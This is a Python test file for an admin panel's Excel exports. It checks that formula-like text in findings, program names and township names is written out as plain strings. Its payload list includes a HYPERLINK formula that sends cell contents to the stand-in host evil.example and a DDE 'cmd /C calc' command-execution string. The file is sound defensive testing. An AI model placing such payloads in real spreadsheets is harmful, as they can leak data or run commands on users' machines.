"""Formula injection (issue 20 item 6): text a staff member or an imported file controls is exported as text."""
from __future__ import annotations

import io
import zipfile
from typing import Any

from openpyxl import load_workbook

from storage.models.compare import Finding
from tests.admin.conftest import signed_in
from tests.admin.findings.conftest import Planted

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击核实")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _formulas(data: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


async def test_finding_export_writes_formula_like_text_as_text(planted: Planted, panel_factory: Any,
                                                               services: Any) -> None:
    panel = await signed_in(panel_factory, services, "county_staff")
    findings = await Finding.all().order_by("id").limit(len(PAYLOADS))
    for f, payload in zip(findings, PAYLOADS):
        await panel.get(f"/admin/findings/{f.id}")
        status, _ = await panel.post(f"/admin/findings/{f.id}/explain", {"reason": payload})
        assert status == 200
    # an imported program name is copied into the finding as it was in the file
    await Finding.filter(id=findings[0].id).update(program='=HYPERLINK("http://evil.example","低保")')
    status, data, _ = await panel.get_bytes("/admin/findings/export.xlsx")
    assert status == 200
    assert _formulas(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    reason_col, program_col = header.index("核实说明"), header.index("项目")
    cells = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    for f in findings:
        c = cells[f.id][reason_col]
        stored = (await Finding.get(id=f.id)).explained_reason  # as kept (the panel trims whitespace)
        assert c.data_type == "s" and c.value == stored
    prog = cells[findings[0].id][program_col]
    assert prog.data_type == "s" and prog.value.startswith("=HYPERLINK")


async def test_statistics_export_writes_a_formula_like_township_name_as_text(panel_factory: Any, services: Any,
                                                                              accounts: Any) -> None:
    from storage.models import Township

    await Township.filter(code="610798101").update(name="=HYPERLINK(\"http://evil.example\",\"南坝镇\")")
    from tests.admin.conftest import file_case

    await file_case(services, "南坝镇胡家庄村会计虚报低保", township="610798101", village="610798101201")
    panel = await signed_in(panel_factory, services, "county_admin")
    from datetime import date

    status, data, _ = await panel.get_bytes(f"/admin/reports/statistics.xlsx?kind=month&period={date.today():%Y-%m}")
    assert status == 200
    assert _formulas(data) == []
    names = [c.value for c in load_workbook(io.BytesIO(data))["按乡镇"]["A"]]
    assert any(isinstance(n, str) and n.startswith("=HYPERLINK") for n in names)
